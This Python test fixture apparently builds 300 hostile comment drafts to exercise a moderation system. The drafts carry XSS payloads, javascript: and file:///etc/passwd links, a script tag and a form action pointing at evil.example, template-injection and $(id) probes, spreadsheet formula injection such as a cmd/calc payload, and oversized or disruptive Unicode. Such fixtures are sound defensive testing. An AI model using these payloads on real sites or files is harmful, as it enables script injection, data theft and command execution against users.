"""Three hundred hostile comments of our own making: each tries to run, to hide, or to break a page."""

from __future__ import annotations

from itertools import cycle, islice, product

from moderation.comment import Author, Draft, Post

_TAGS = ("img", "svg", "body", "video", "audio", "iframe", "input", "details", "marquee", "object")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart")
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2Zy8+", "vbscript:msgbox(1)",
    "file:///etc/passwd", "blob:https://evil.example/1", "filesystem:https://evil.example/1",
    "//evil.example/x", "\\\\evil.example\\x", "https:evil.example", "ftp://evil.example",
    "http://[::1]/", "http://0x7f000001/", "http://evil.example:80@good.example/", "mailto:a@b?bcc=c@d",
    "tel:+1", "ws://evil.example", "jar:https://evil.example!/", "view-source:https://evil.example",
    "http://xn--e1awd7f.example/", "http://evil。example/", "http://evil.example/%0d%0aSet-Cookie:a=b",
)  # fmt: skip
_MARKUP = (
    "<script>alert(1)</script>", "<script src=//evil.example></script>", "<style>*{display:none}</style>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>", "</textarea></form><form action=//evil.example><button>",
    "</script><script>alert(1)</script>", "<!-- --><![CDATA[x]]>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)", "<math><mi xlink:href='javascript:alert(1)'>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '" autofocus onfocus=alert(1) x="', "' onmouseover='alert(1)", "`onmouseover=alert(1)`", "'-alert(1)-'",
    "]]><script>alert(1)</script>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<xmp><p title='</xmp><svg onload=alert(1)>'>", "<h1 style='position:fixed;inset:0;z-index:9'>gone</h1>",
    "<dialog open>Sign in again</dialog>", "<input name=csrf_token value=x form=queue>", "<p id=queue></p><p id=messages>",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{% raw %}x{% endraw %}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "%s%s%n", "{0.__class__}", "$(id)", "`id`", "@{7*7}",
)  # fmt: skip
_UNICODE = (
    "\u202eevil\u202c", "\u2066a\u2069\u2067b\u2069", "\u200b\u200c\u200d\u2060\ufeff", "Z\u0351\u036b\u0343\u032a\u0302" * 300,
    "\U000e0001\U000e0041", "\ufff9a\ufffab\ufffb", "👩‍👩‍👧‍👦" * 400, "🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 100, "ﷺ" * 500, "𝕱𝖗𝖆𝖐𝖙𝖚𝖗" * 50,
    "\u0600\u0601\u0602" * 50, "عربي עברית mixed abc", "\u115f\u1160\u3164", "a\u0000b".replace("\u0000", "\ufffd"),
    "\x1b[31mred\x1b[0m", "\x07\x08\x0b\x0c", "\r\r\r\n\n", "\u2028\u2029", "\u0085", "\ud7ff\ue000\uffff",
    "\u00ad" * 500, "i̇I\u0307ıİ", "ﬀﬁﬂﬃ", "ＦＵＬＬＷＩＤＴＨ", "\u3000" * 200,
)  # fmt: skip
_FORMULAE = (
    "=1+1", '=HYPERLINK("http://evil.example")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "=IMPORTXML(1)",
    ";=1", ",=1",
)  # fmt: skip
_SIZES = (
    "W" * 60_000,
    "wide " * 12_000,
    "\n" * 5_000 + "x",
    "ا" * 30_000,
    "a" * 59_000 + ".example",
    "-" * 40_000,
)
_WORD_SEPARATOR = " "


def drafts(count: int = 300) -> list[Draft]:
    """Return *count* different drafts, their hostile words in each field in turn."""
    events = [f"<{tag} src=x {event}=alert(1)>" for tag, event in product(_TAGS, _EVENTS)]
    links = [f'<a href="{scheme}">{scheme}</a> {scheme}' for scheme in _SCHEMES]
    quoted = [f"{mark}{text}{mark}" for text, mark in zip(_MARKUP, cycle("\"'`"), strict=False)]
    texts = [*_MARKUP, *_TEMPLATES, *_UNICODE, *_FORMULAE, *links, *_SIZES, *events, *quoted]
    kept = list(islice(texts, count))
    kept += [
        f"{a}{_WORD_SEPARATOR}{b}"
        for a, b in islice(product(_MARKUP, _TEMPLATES), count - len(kept))
    ]
    return [_draft(text, number) for number, text in enumerate(kept)]


def _draft(text: str, number: int) -> Draft:
    short = text[:150]
    return Draft(
        content=f"toxicity=0.6 {text}",
        author=Author(
            name=short if number % 2 else "Anonymous",
            email=f"{number}@mail.example",
            url=short if number % 3 == 0 else "",
        ),
        post=Post(url=short if number % 5 == 0 else "", title=short if number % 3 else ""),
        external_id=f"hostile-{number}",
        parent=f"hostile-{number - 1}" if number % 7 == 0 else "",
    )
